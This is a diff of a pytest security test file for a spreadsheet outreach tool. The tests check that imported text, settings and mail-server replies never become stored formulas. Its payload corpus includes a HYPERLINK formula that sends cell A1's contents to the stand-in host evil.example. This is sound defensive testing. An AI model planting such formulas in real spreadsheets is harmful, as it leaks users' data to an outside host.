@@ -13,8 +13,10 @@ import pytest
 from sheets_outreach.jobs.importing import export_workbook, import_file
 from sheets_outreach.localsheets import LocalServer
 from sheets_outreach.localsheets.model.cells import unpack
-from tests.reliability.library import open_door
-from tests.security.everywhere import Refusing, fill, run_everything
+from sheets_outreach.register.columns import Tab
+from tests.reliability.judges import texts
+from tests.reliability.library import Letterbox, open_door
+from tests.security.everywhere import Refusing, fill, run_everything, text_columns
 
 CORPUS = (
     '=HYPERLINK("https://evil.example/?"&A1;"Откройте")',
@@ -53,15 +55,32 @@ def formulas(server: LocalServer, identity: str) -> list[str]:
     ]
 
 
-@pytest.mark.parametrize("payload", CORPUS, ids=ascii)
-def test_no_job_makes_a_formula_of_what_anybody_wrote(server: LocalServer, payload: str) -> None:
-    """In every people's column of every tab, in settings, in what a mail server says; judged by what is stored."""
-    settings = {"Название библиотеки": payload, "Места рядом": payload}
-    identity = fill(server, lambda _tab, _key, _row: payload, settings=settings)
-    box = Refusing(payload)
+def test_no_job_makes_a_formula_of_what_anybody_wrote(server: LocalServer) -> None:
+    """Every payload in every people's column of every tab, judged by what is stored after all jobs have run."""
+    columns = text_columns()
+
+    def shifted(tab: Tab, key: str, row: int) -> str:
+        place = columns.index((tab, key)) if (tab, key) in columns else 0
+        return CORPUS[(row + place) % len(CORPUS)]
+
+    identity = fill(server, shifted, rows=len(CORPUS))
+    box = Letterbox()
     run_everything(server, identity, box)
     assert formulas(server, identity) == []
     assert box.mails
+
+
+@pytest.mark.parametrize("payload", CORPUS[:3], ids=ascii)
+def test_neither_settings_nor_a_mail_server_bring_a_formula(server: LocalServer, payload: str) -> None:
+    """What they say is written into our own cells: searches, states, job lines."""
+    settings = {"Название библиотеки": payload, "Места рядом": payload}
+    identity = fill(server, lambda _tab, _key, _row: "слово", settings=settings)
+    run_everything(server, identity, Refusing(payload))
+    assert formulas(server, identity) == []
+    shown = str(
+        [texts(server.core, identity, sheet.sheet_id) for sheet in server.core.document(identity).workbook.sheets]
+    )
+    assert shown.count(payload[:3]) > 2
 
 
 def test_every_formula_that_setup_writes_is_its_own(server: LocalServer) -> None:
